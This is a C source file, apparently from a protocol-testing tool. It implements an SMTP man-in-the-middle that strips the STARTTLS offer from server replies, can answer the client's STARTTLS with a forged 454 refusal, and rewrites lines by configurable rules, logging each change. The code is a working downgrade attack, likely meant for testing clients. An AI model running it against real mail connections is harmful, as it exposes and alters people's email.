/* SPDX-License-Identifier: MIT
 * smtp_mitm: the STARTTLS-stripping attacker (RFC 3207 6) as a line
 * rewriter over both directions of one clear-text SMTP connection. Lines
 * end at LF (CRLF as sent is kept); replies are held until their last line
 * (RFC 5321 4.2.1: "250-" continues, "250 " ends) so that a removed
 * STARTTLS line never leaves the reply without its final line. It tracks
 * just enough state to stay out of message content (DATA, 354, "." of
 * RFC 5321 4.1.1.4) and to step aside once TLS starts.
 */
#include "proto/smtp_mitm.h"

#include <string.h>

typedef struct {
    GByteArray *line;    /* unfinished line */
    gboolean raw_to_eol; /* an overlong line: forward unchanged up to its LF */
    GByteArray *out;     /* to forward */
} SmtpMitmSide;

struct SmtpMitm {
    gboolean strip, block;
    SmtpMitmRule *rules; /* strings owned */
    guint n_rules;
    SmtpMitmSide side[2];
    GPtrArray *reply;       /* S2C: GByteArray* lines (with their end) of an open reply */
    gboolean starttls_sent; /* a forwarded STARTTLS waits for its reply */
    gboolean data_sent;     /* a forwarded DATA waits for 354 */
    gboolean in_data;       /* C2S: message content until "." */
    gboolean tls;
    GQueue events; /* SmtpMitmEvent* */
};

SmtpMitm *
smtp_mitm_new(const SmtpMitmConfig *cfg)
{
    g_return_val_if_fail(cfg != NULL, NULL);
    SmtpMitm *m = g_new0(SmtpMitm, 1);
    m->strip = cfg->strip_starttls;
    m->block = cfg->block_starttls;
    m->n_rules = cfg->n_rules;
    m->rules = g_new0(SmtpMitmRule, MAX(cfg->n_rules, 1));
    for (guint i = 0; i < cfg->n_rules; i++) {
        g_return_val_if_fail(cfg->rules[i].match != NULL && cfg->rules[i].match[0], NULL);
        m->rules[i].match = g_strdup(cfg->rules[i].match);
        m->rules[i].replace = g_strdup(cfg->rules[i].replace ? cfg->rules[i].replace : "");
        m->rules[i].dir = cfg->rules[i].dir;
    }
    for (guint d = 0; d < 2; d++) {
        m->side[d].line = g_byte_array_new();
        m->side[d].out = g_byte_array_new();
    }
    m->reply = g_ptr_array_new_with_free_func((GDestroyNotify)g_byte_array_unref);
    g_queue_init(&m->events);
    return m;
}

static void
smtp_mitm_event_free(gpointer p)
{
    smtp_mitm_event_clear(p);
    g_free(p);
}

void
smtp_mitm_free(SmtpMitm *m)
{
    if (m == NULL)
        return;
    for (guint i = 0; i < m->n_rules; i++) {
        g_free((char *)m->rules[i].match);
        g_free((char *)m->rules[i].replace);
    }
    g_free(m->rules);
    for (guint d = 0; d < 2; d++) {
        g_byte_array_unref(m->side[d].line);
        g_byte_array_unref(m->side[d].out);
    }
    g_ptr_array_unref(m->reply);
    g_queue_clear_full(&m->events, smtp_mitm_event_free);
    g_free(m);
}

static SmtpMitmEvent *
smtp_mitm_push(SmtpMitm *m, SmtpMitmEventKind kind, SmtpMitmDir dir)
{
    SmtpMitmEvent *ev = g_new0(SmtpMitmEvent, 1);
    ev->kind = kind;
    ev->dir = dir;
    g_queue_push_tail(&m->events, ev);
    return ev;
}

/* Length of the line without its end (CRLF or a bare LF). */
static gsize
smtp_mitm_content_len(const GByteArray *line)
{
    gsize n = line->len;
    if (n > 0 && line->data[n - 1] == '\n')
        n--;
    if (n > 0 && line->data[n - 1] == '\r')
        n--;
    return n;
}

/* The line (content) is the command verb alone, case-insensitively
 * (RFC 5321 2.4), trailing blanks allowed. */
static gboolean
smtp_mitm_is_verb(const guint8 *c, gsize n, const char *verb)
{
    gsize v = strlen(verb);
    while (n > v && (c[n - 1] == ' ' || c[n - 1] == '\t'))
        n--;
    return n == v && g_ascii_strncasecmp((const char *)c, verb, v) == 0;
}

/* Replaces every occurrence of match in line[0..n) (left to right, never
 * overlapping); the count of replacements. *out gets the new content. */
static guint
smtp_mitm_replace(const guint8 *c, gsize n, const char *match, const char *repl, GByteArray *out)
{
    gsize ml = strlen(match), rl = strlen(repl);
    guint count = 0;
    gsize i = 0;
    while (i < n) {
        if (n - i >= ml && memcmp(c + i, match, ml) == 0) {
            g_byte_array_append(out, (const guint8 *)repl, (guint)rl);
            i += ml;
            count++;
        } else {
            g_byte_array_append(out, c + i, 1);
            i++;
        }
    }
    return count;
}

/* Forwards one whole line going dir after the rules for dir. */
static void
smtp_mitm_forward(SmtpMitm *m, SmtpMitmDir dir, const GByteArray *line)
{
    gsize n = smtp_mitm_content_len(line);
    g_autoptr(GByteArray) cur = g_byte_array_new();
    g_byte_array_append(cur, line->data, (guint)n);
    for (guint i = 0; i < m->n_rules; i++) {
        const SmtpMitmRule *r = &m->rules[i];
        if (r->dir != dir)
            continue;
        g_autoptr(GByteArray) next = g_byte_array_new();
        guint count = smtp_mitm_replace(cur->data, cur->len, r->match, r->replace, next);
        if (count == 0)
            continue;
        SmtpMitmEvent *ev = smtp_mitm_push(m, SMTP_MITM_EV_REWRITE, dir);
        ev->rule = i;
        ev->count = count;
        ev->before = g_bytes_new(cur->data, cur->len);
        ev->after = g_bytes_new(next->data, next->len);
        g_byte_array_unref(cur);
        cur = g_steal_pointer(&next);
    }
    GByteArray *out = m->side[dir].out;
    g_byte_array_append(out, cur->data, cur->len);
    g_byte_array_append(out, line->data + n, (guint)(line->len - n));
}

/* The server accepted STARTTLS: from here on nothing is read or changed. */
static void
smtp_mitm_enter_tls(SmtpMitm *m)
{
    m->tls = TRUE;
    smtp_mitm_push(m, SMTP_MITM_EV_TLS, SMTP_MITM_S2C);
    smtp_mitm_flush(m, SMTP_MITM_C2S);
}

static void
smtp_mitm_client_line(SmtpMitm *m, const GByteArray *line)
{
    gsize n = smtp_mitm_content_len(line);
    if (m->in_data) {
        /* RFC 5321 4.1.1.4: "." alone ends the content. */
        if (n == 1 && line->data[0] == '.')
            m->in_data = FALSE;
        smtp_mitm_forward(m, SMTP_MITM_C2S, line);
        return;
    }
    if (smtp_mitm_is_verb(line->data, n, "STARTTLS")) {
        if (m->block) {
            /* Never reaches the server; the client hears 454 from us. */
            SmtpMitmEvent *ev = smtp_mitm_push(m, SMTP_MITM_EV_BLOCKED, SMTP_MITM_C2S);
            ev->text = g_strndup(SMTP_MITM_REPLY_454, strlen(SMTP_MITM_REPLY_454) - 2);
            g_byte_array_append(m->side[SMTP_MITM_S2C].out, (const guint8 *)SMTP_MITM_REPLY_454,
                                strlen(SMTP_MITM_REPLY_454));
            return;
        }
        m->starttls_sent = TRUE;
    } else if (smtp_mitm_is_verb(line->data, n, "DATA")) {
        m->data_sent = TRUE;
    }
    smtp_mitm_forward(m, SMTP_MITM_C2S, line);
}

/* RFC 3207 4: STARTTLS is an EHLO keyword line, parameters none. */
static gboolean
smtp_mitm_is_starttls_line(const GByteArray *line)
{
    gsize n = smtp_mitm_content_len(line);
    if (n < 4)
        return FALSE;
    const guint8 *kw = line->data + 4;
    gsize k = 0;
    while (k < n - 4 && kw[k] != ' ')
        k++;
    return k == 8 && g_ascii_strncasecmp((const char *)kw, "STARTTLS", 8) == 0;
}

/* A whole reply (m->reply): strip, forward, then follow the dialogue. */
static void
smtp_mitm_server_reply(SmtpMitm *m)
{
    GPtrArray *lines = m->reply;
    const GByteArray *first = lines->pdata[0];
    char code[4] = {0};
    memcpy(code, first->data, MIN(first->len, 3));
    if (m->strip && strcmp(code, "250") == 0) {
        for (guint i = 1; i < lines->len;) {
            GByteArray *l = lines->pdata[i];
            if (!smtp_mitm_is_starttls_line(l)) {
                i++;
                continue;
            }
            SmtpMitmEvent *ev = smtp_mitm_push(m, SMTP_MITM_EV_STRIPPED, SMTP_MITM_S2C);
            ev->text = g_strndup((const char *)l->data, smtp_mitm_content_len(l));
            g_ptr_array_remove_index(lines, i);
            /* RFC 5321 4.2.1: the last line has a space after the code. */
            if (i == lines->len)
                ((GByteArray *)lines->pdata[i - 1])->data[3] = ' ';
        }
    }
    for (guint i = 0; i < lines->len; i++)
        smtp_mitm_forward(m, SMTP_MITM_S2C, lines->pdata[i]);
    g_ptr_array_set_size(lines, 0);
    if (m->starttls_sent) {
        m->starttls_sent = FALSE;
        if (code[0] == '2')
            smtp_mitm_enter_tls(m);
    } else if (m->data_sent && strcmp(code, "354") == 0) {
        m->data_sent = FALSE;
        m->in_data = TRUE;
    }
}

static void
smtp_mitm_server_line(SmtpMitm *m, const GByteArray *line)
{
    GByteArray *copy = g_byte_array_new();
    g_byte_array_append(copy, line->data, line->len);
    g_ptr_array_add(m->reply, copy);
    gboolean more = smtp_mitm_content_len(line) >= 4 && line->data[3] == '-';
    if (more && m->reply->len < SMTP_MITM_REPLY_LINES_MAX)
        return;
    smtp_mitm_server_reply(m);
}

static void
smtp_mitm_line(SmtpMitm *m, SmtpMitmDir dir)
{
    GByteArray *line = m->side[dir].line;
    if (dir == SMTP_MITM_C2S)
        smtp_mitm_client_line(m, line);
    else
        smtp_mitm_server_line(m, line);
    g_byte_array_set_size(line, 0);
}

void
smtp_mitm_feed(SmtpMitm *m, SmtpMitmDir dir, const guint8 *data, gsize len)
{
    g_return_if_fail(m != NULL && (dir == SMTP_MITM_C2S || dir == SMTP_MITM_S2C));
    SmtpMitmSide *s = &m->side[dir];
    gsize i = 0;
    while (i < len) {
        if (m->tls) {
            g_byte_array_append(s->out, data + i, (guint)(len - i));
            return;
        }
        const guint8 *lf = memchr(data + i, '\n', len - i);
        gsize take = lf ? (gsize)(lf - (data + i)) + 1 : len - i;
        if (s->raw_to_eol) {
            g_byte_array_append(s->out, data + i, (guint)take);
            s->raw_to_eol = lf == NULL;
            i += take;
            continue;
        }
        gsize room = SMTP_MITM_LINE_MAX - s->line->len;
        if (take > room) {
            /* Overlong: what is held and the rest of the line pass unchanged. */
            smtp_mitm_flush(m, dir);
            s->raw_to_eol = TRUE;
            continue;
        }
        g_byte_array_append(s->line, data + i, (guint)take);
        i += take;
        if (lf != NULL)
            smtp_mitm_line(m, dir);
    }
}

void
smtp_mitm_flush(SmtpMitm *m, SmtpMitmDir dir)
{
    g_return_if_fail(m != NULL);
    SmtpMitmSide *s = &m->side[dir];
    if (dir == SMTP_MITM_S2C) {
        for (guint i = 0; i < m->reply->len; i++) {
            GByteArray *l = m->reply->pdata[i];
            g_byte_array_append(s->out, l->data, l->len);
        }
        g_ptr_array_set_size(m->reply, 0);
    }
    g_byte_array_append(s->out, s->line->data, s->line->len);
    g_byte_array_set_size(s->line, 0);
}

GBytes *
smtp_mitm_take(SmtpMitm *m, SmtpMitmDir dir)
{
    g_return_val_if_fail(m != NULL, NULL);
    SmtpMitmSide *s = &m->side[dir];
    if (s->out->len == 0)
        return NULL;
    GBytes *b = g_byte_array_free_to_bytes(s->out);
    s->out = g_byte_array_new();
    return b;
}

gboolean
smtp_mitm_poll(SmtpMitm *m, SmtpMitmEvent *ev)
{
    g_return_val_if_fail(m != NULL && ev != NULL, FALSE);
    SmtpMitmEvent *e = g_queue_pop_head(&m->events);
    if (e == NULL)
        return FALSE;
    *ev = *e;
    g_free(e);
    return TRUE;
}

void
smtp_mitm_event_clear(SmtpMitmEvent *ev)
{
    if (ev == NULL)
        return;
    g_free(ev->text);
    if (ev->before)
        g_bytes_unref(ev->before);
    if (ev->after)
        g_bytes_unref(ev->after);
    memset(ev, 0, sizeof *ev);
}

gboolean
smtp_mitm_is_tls(const SmtpMitm *m)
{
    return m->tls;
}

const char *
smtp_mitm_event_kind_name(SmtpMitmEventKind kind)
{
    static const char *const names[] = {"none", "stripped", "blocked", "rewrite", "tls"};
    g_return_val_if_fail((guint)kind < G_N_ELEMENTS(names), "?");
    return names[kind];
}

static const char *const smtp_mitm_dir_names[] = {"to_server", "to_client"};

const char *
smtp_mitm_dir_name(SmtpMitmDir dir)
{
    g_return_val_if_fail((guint)dir < 2, "?");
    return smtp_mitm_dir_names[dir];
}

gboolean
smtp_mitm_dir_from_name(const char *name, SmtpMitmDir *out)
{
    for (guint i = 0; name != NULL && i < 2; i++) {
        if (strcmp(name, smtp_mitm_dir_names[i]) == 0) {
            *out = (SmtpMitmDir)i;
            return TRUE;
        }
    }
    return FALSE;
}
